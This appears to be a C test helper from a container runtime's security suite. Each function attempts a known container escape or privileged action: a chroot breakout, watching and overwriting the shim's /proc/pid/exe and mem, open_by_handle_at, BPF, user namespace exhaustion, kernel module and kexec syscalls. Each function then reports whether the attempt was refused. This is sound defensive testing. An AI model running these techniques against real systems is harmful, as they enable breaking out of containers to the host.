// What an attacker does in a container: verbs of inside.c. Each is a way out of a container that has worked somewhere
// (docs/security.md), or what must not work for its root.
#include <dirent.h>
#include <ftw.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/sysmacros.h>

static const char *outcome(long result) { return result < 0 ? strerrorname_np(errno) : "done"; }

// fds: the descriptors that the process was started with, by number.
static void fds(char **args) {
    (void)args;
    for (int fd = 0; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) printf("%d ", fd);
    puts("");
    exit(0);
}

// escape PATH: chroot(2) into a directory below while the working directory stays outside, up by "..", chroot(2) there.
// Prints whether this root still is the one that it was, and what opening PATH there says.
static void escape(char **args) {
    struct stat before, after;
    need(stat("/", &before));
    if (mkdir("/tmp/jail", 0700) < 0 && errno != EEXIST) refused();
    int old = need(open("/", O_PATH | O_DIRECTORY));
    need(chroot("/tmp/jail"));
    need(fchdir(old));
    for (int i = 0; i < 100; i++) need(chdir(".."));
    need(chroot("."));
    need(stat("/", &after));
    printf("%s root, %s\n", before.st_ino == after.st_ino && before.st_dev == after.st_dev ? "same" : "another",
           outcome(open(args[0], O_PATH)));
    exit(0);
}

// What a look at one file of a process says: "done" or the error.
static const char *look(const char *pid, const char *file, int flags) {
    char path[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, file);
    int fd = open(path, flags | O_CLOEXEC);
    const char *said = outcome(fd);
    if (fd >= 0) close(fd);
    return said;
}

// Whether a process is one of the shim's own: execve(2) through /proc/self/fd/N names it N.
static int is_stage(const char *pid) {
    char path[PATH_MAX], name[32] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t count = read(fd, name, sizeof name - 1);
    close(fd);
    return count > 1 && strspn(name, "0123456789\n") == (size_t)count;
}

// Whether what could be opened was a stage's. One that has executed the user's program shows that one's file, also in the
// moment of execve(2) in which the kernel has not renamed it yet.
static int is_stage_still(const char *pid) {
    char path[PATH_MAX], exe[PATH_MAX] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (readlink(path, exe, sizeof exe - 1) < 0) return errno == EACCES || errno == EPERM;
    return strstr(exe, "containerd-shim") != NULL;
}

// spy FILE: looks at every process of the shim's own that it can see, until FILE exists. Prints how often it has seen
// one, and everything of one that it could open.
static void spy(char **args) {
    static const struct {
        const char *file;
        int flags;
    } files[] = {{"exe", O_RDONLY},     {"exe", O_WRONLY},       {"fd", O_RDONLY | O_DIRECTORY}, {"mem", O_RDONLY},
                 {"mem", O_RDWR},       {"environ", O_RDONLY},   {"maps", O_RDONLY},             {"root", O_PATH | O_DIRECTORY},
                 {"cwd", O_PATH | O_DIRECTORY}, {"ns/mnt", O_RDONLY}, {"map_files", O_RDONLY | O_DIRECTORY}};
    long seen = 0, opened = 0;
    do {
        DIR *proc = opendir("/proc");
        if (!proc) refused();
        for (struct dirent *entry; (entry = readdir(proc));) {
            if (!is_stage(entry->d_name)) continue;
            seen++;
            for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
                if (strcmp(look(entry->d_name, files[i].file, files[i].flags), "done")) continue;
                if (!is_stage_still(entry->d_name)) continue;
                if (!opened++) printf("opened %s of %s\n", files[i].file, entry->d_name);
            }
        }
        closedir(proc);
    } while (access(args[0], F_OK) < 0);
    printf("seen %ld opened %ld\n", seen, opened);
    exit(0);
}

// overwrite PID: tries to write to the program of a process: while it runs, and by a descriptor that was opened before
// once it has ended. Prints "held" between the two.
static void overwrite(char **args) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s", args[0]);
    int process = need(open(path, O_PATH | O_DIRECTORY)), exe = openat(process, "exe", O_RDONLY);
    if (exe < 0) refused();
    printf("write %s\n", outcome(openat(process, "exe", O_WRONLY)));
    puts("held");
    fflush(stdout);
    while (faccessat(process, "exe", F_OK, AT_SYMLINK_NOFOLLOW) == 0) usleep(1000);
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    printf("write %s\n", outcome(open(path, O_WRONLY)));
    printf("truncate %s\n", outcome(truncate(path, 0)));
    printf("chmod %s\n", outcome(fchmod(exe, 0777)));
    printf("chown %s\n", outcome(fchown(exe, 0, 0)));
    exit(0);
}

static int print_if_writable(const char *path, const struct stat *stat, int type, struct FTW *ftw) {
    (void)ftw;
    if (type != FTW_F || !S_ISREG(stat->st_mode)) return 0;
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return 0;
    close(fd);
    puts(path);
    return 0;
}

// writable DIRECTORY: every file below it that opens for writing, in its own filesystem.
static void writable(char **args) {
    need(nftw(args[0], print_if_writable, 64, FTW_PHYS | FTW_MOUNT));
    exit(0);
}

// What opening a directory by its handle says; the handle is asked for first, as anybody may.
static const char *by_handle(const char *path) {
    struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount, at = open(path, O_RDONLY);
    if (at < 0 || name_to_handle_at(AT_FDCWD, path, handle, &mount, 0) < 0) return outcome(-1);
    return outcome(open_by_handle_at(at, handle, O_RDONLY));
}

// bpf-maps: bpf(2) walks over the kernel's BPF maps, as `bpftool map` does: the first step.
static void bpf_maps(char **args) {
    (void)args;
    union bpf_attr attr = {.start_id = 0};
    need(syscall(SYS_bpf, BPF_MAP_GET_NEXT_ID, &attr, sizeof attr));
}

// user-namespaces COUNT: processes with a user namespace of their own, each as another user, until one gets none or there
// are COUNT. Prints how many there are, and what the last one was told.
static void user_namespaces(char **args) {
    int count = 0, told[2], most = atoi(args[0]);
    const char *said = "done";
    pid_t children[64];
    if (most > 64) exit(2);
    need(pipe(told));
    for (; count < most; count++) {
        children[count] = need(fork());
        if (children[count] == 0) {
            need(setresuid(count, count, count));
            int error = unshare(CLONE_NEWUSER) < 0 ? errno : 0;
            need(write(told[1], &error, sizeof error));
            pause();
        }
        int error;
        need(read(told[0], &error, sizeof error));
        if (error) {
            said = strerrorname_np(error);
            break;
        }
    }
    printf("%d %s\n", count, said);
    // A zombie keeps its user namespace until it is reaped, which the container's init may not do.
    for (int i = 0; i <= count && i < most; i++) kill(children[i], SIGKILL);
    while (wait(NULL) > 0) continue;
    exit(0);
}

// kernel: what changes the kernel or reads the host's disks, one line each with what it says.
static void kernel(char **args) {
    (void)args;
    struct bpf_insn code[] = {{.code = 0xb7, .imm = 1}, {.code = 0x95}};
    union bpf_attr program = {.prog_type = BPF_PROG_TYPE_KPROBE, .insns = (__u64)code, .insn_cnt = 2, .license = (__u64) "GPL"};
    printf("init_module %s\n", outcome(syscall(SYS_init_module, "", 0L, "")));
    printf("finit_module %s\n", outcome(syscall(SYS_finit_module, 0, "", 0)));
    printf("delete_module %s\n", outcome(syscall(SYS_delete_module, "none", O_NONBLOCK)));
    printf("kexec_load %s\n", outcome(syscall(SYS_kexec_load, 0, 0, NULL, 0)));
    printf("bpf %s\n", outcome(syscall(SYS_bpf, BPF_PROG_LOAD, &program, sizeof program)));
    printf("mknod-b-8-0 %s\n", outcome(mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0))));
    printf("mknod-c-1-1 %s\n", outcome(mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1))));
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_TASK_CLOCK,
                                    .exclude_kernel = 1};
    printf("perf_event_open %s\n", outcome(syscall(SYS_perf_event_open, &event, 0, -1, -1, 0L)));
    printf("open_by_handle_at %s\n", by_handle("/dev"));
    printf("open_by_handle_at-own %s\n", by_handle("/dev/shm"));
    printf("socket-vsock %s\n", outcome(socket(40, SOCK_STREAM, 0)));
    printf("socket-vsock-wide %s\n", outcome(syscall(SYS_socket, 0x100000028, SOCK_STREAM, 0)));
    printf("socket-qipcrtr %s\n", outcome(socket(42, SOCK_DGRAM, 0)));
    printf("io_uring_setup %s\n", outcome(syscall(SYS_io_uring_setup, 1, (char[120]){0})));
    printf("io_uring_enter %s\n", outcome(syscall(SYS_io_uring_enter, 0, 0, 0, 0, NULL, 0L)));
    printf("io_uring_register %s\n", outcome(syscall(SYS_io_uring_register, 0, 0, NULL, 0)));
    printf("kexec_file_load %s\n", outcome(syscall(SYS_kexec_file_load, 0, 0, 0L, "", 0L)));
    printf("swapon %s\n", outcome(syscall(SYS_swapon, "/bin/busybox", 0)));
    printf("clock_settime %s\n", outcome(clock_settime(CLOCK_REALTIME, &(struct timespec){1, 0})));
    printf("adjtimex %s\n", outcome(syscall(SYS_adjtimex, (int[64]){0x1})));
    printf("userfaultfd %s\n", outcome(syscall(SYS_userfaultfd, 0)));
    printf("syslog-read %s\n", outcome(syscall(SYS_syslog, 3, (char[64]){0}, 64)));
    printf("swapoff %s\n", outcome(syscall(SYS_swapoff, "/none")));
    printf("settimeofday %s\n", outcome(syscall(SYS_settimeofday, (long[2]){1, 0}, NULL)));
    printf("acct %s\n", outcome(syscall(SYS_acct, NULL)));
    printf("syslog-clear %s\n", outcome(syscall(SYS_syslog, 5, NULL, 0)));
    printf("mount-ext4 %s\n", outcome(syscall(SYS_mount, "/dev/null", "/tmp", "ext4", 0L, NULL)));
    exit(0);
}
